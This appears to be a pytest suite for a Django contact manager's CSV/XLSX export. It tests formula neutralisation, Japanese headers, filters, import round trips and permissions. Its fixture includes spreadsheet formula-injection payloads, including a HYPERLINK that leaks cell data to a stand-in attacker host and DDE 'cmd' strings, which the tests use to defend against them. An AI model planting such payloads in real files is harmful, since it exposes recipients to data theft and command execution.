"""Exporting contacts to CSV and XLSX: neutralised formula cells, Excel-friendly encoding,
Japanese display forms, the list's filters, and a round trip through the importer."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation

from sokyaku.cli import main
from sokyaku.contacts import export, selectors
from sokyaku.contacts.imports import run
from sokyaku.contacts.models import Contact
from sokyaku.contacts.services import ContactInput, contact_upsert

pytestmark = pytest.mark.django_db

EXPORT = reverse("contacts:export")
HOSTILE = {
    "family_name": '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "given_name": "+cmd|' /C calc'!A0",
    "department": "-1+1",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def people() -> list[Contact]:
    return [
        contact_upsert(
            data=ContactInput(
                family_name="山田", given_name="太郎", family_name_kana="ヤマダ",
                given_name_kana="タロウ", email="taro@sample.example", phone="09012345678",
                company_name="株式会社サンプル", department="情報システム部", title="部長",
                postal_code="1000001", address="千代田区千代田1-1", tags=["展示会", "資料DL"],
            )
        ).contact,
        contact_upsert(data=ContactInput(email="evil@example.jp", **HOSTILE)).contact,
        contact_upsert(
            data=ContactInput(family_name="鈴木", email="suzuki@example.jp", prefecture="大阪府")
        ).contact,
    ]  # fmt: skip


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _export(file_format: str, **filters) -> bytes:
    contacts = selectors.contact_list(user=None, **filters)
    return b"".join(export.contact_export_file(contacts=contacts, file_format=file_format))


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+cmd", "'+cmd"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("山田", "山田"),
        ("090-1234-5678", "090-1234-5678"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value, shown):
    assert export.neutralise(value) == shown


def test_csv_is_utf8_with_bom_and_crlf_and_neutralises_formulas(people):
    data = _export(export.CSV)
    assert b"\r\n" in data
    rows = {row[6]: row for row in _csv_rows(data)[1:]}
    evil = rows["evil@example.jp"]
    assert evil[2:4] == ["'" + HOSTILE["family_name"], "'" + HOSTILE["given_name"]]
    assert evil[9:11] == ["'-1+1", "'" + HOSTILE["title"]]


def test_xlsx_cells_are_text_never_formulas(people):
    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(_export(export.XLSX)))
    sheet = workbook.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert all(cell.data_type == "s" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'" + HOSTILE["family_name"] in values
    assert HOSTILE["family_name"] not in values


def test_names_surname_first_phone_as_written_in_japan_and_the_prefecture_name(people):
    with translation.override("ja"):
        rows = _csv_rows(_export(export.CSV, q="山田"))
    header, yamada = rows
    assert header[:8] == ["ID", "氏名", "姓", "名", "セイ", "メイ", "メールアドレス", "電話番号"]
    assert yamada[1:6] == ["山田 太郎", "山田", "太郎", "ヤマダ", "タロウ"]
    assert yamada[7] == "090-1234-5678"
    assert yamada[header.index("都道府県")] == "東京都"
    assert yamada[header.index("会社名")] == "株式会社サンプル"
    assert yamada[header.index("タグ")] == "展示会, 資料DL"


def test_english_headers_and_prefecture_names_follow_the_language(people):
    with translation.override("en"):
        rows = _csv_rows(_export(export.CSV, q="鈴木"))
    assert rows[0][:3] == ["ID", "Name", "Family name"]
    assert rows[1][rows[0].index("Prefecture")] == "Osaka"


@pytest.mark.parametrize("language", ["ja", "en"])
def test_an_export_imports_back_without_changing_anything(people, language):
    # given an export of every contact, with the headers of either language
    with translation.override(language):
        data = _export(export.CSV)
    before = list(Contact.objects.order_by("pk").values())
    # when it is imported
    job = run.import_file(data=data, filename="contacts.csv")
    # then every row is recognised as the contact it came from, and nothing changed
    assert (job.created_count, job.updated_count, job.unchanged_count, job.error_count) == (
        0, 0, 3, 0,
    )  # fmt: skip
    assert list(Contact.objects.order_by("pk").values()) == before


def test_the_list_exports_what_its_search_and_filters_select(logged_in: Client, people):
    response = logged_in.get(EXPORT, {"format": "csv", "tag": "展示会"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(b"".join(response.streaming_content))
    assert [row[6] for row in rows[1:]] == ["taro@sample.example"]


def test_the_list_exports_xlsx(logged_in: Client, people):
    import openpyxl

    response = logged_in.get(EXPORT, {"format": "xlsx", "q": "suzuki"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    assert sheet is not None
    assert [row[6] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["suzuki@example.jp"]


def test_the_list_links_to_the_export_with_its_filters(logged_in: Client, people):
    html = logged_in.get(reverse("contacts:list"), {"tag": "展示会"}).content.decode()
    assert "/contacts/export/?tag=%E5%B1%95%E7%A4%BA%E4%BC%9A&amp;format=csv" in html


def test_exporting_needs_the_right_to_see_contacts(client: Client, people):
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.create_user(username="nobody", password="x"))
    assert client.get(EXPORT).status_code == 403


def test_the_command_exports_to_a_file(people, tmp_path):
    out = tmp_path / "contacts.csv"
    assert main(["export", "contacts", "--q", "鈴木", "--output", str(out)]) == 0
    rows = _csv_rows(out.read_bytes())
    assert [row[6] for row in rows[1:]] == ["suzuki@example.jp"]


def test_the_command_exports_xlsx_filtered_by_prefecture(people, tmp_path):
    import openpyxl

    out = tmp_path / "contacts.xlsx"
    assert (
        main(["export", "contacts", "--format", "xlsx", "--prefecture", "大阪", "-o", str(out)])
        == 0
    )
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    assert [row[6] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["suzuki@example.jp"]
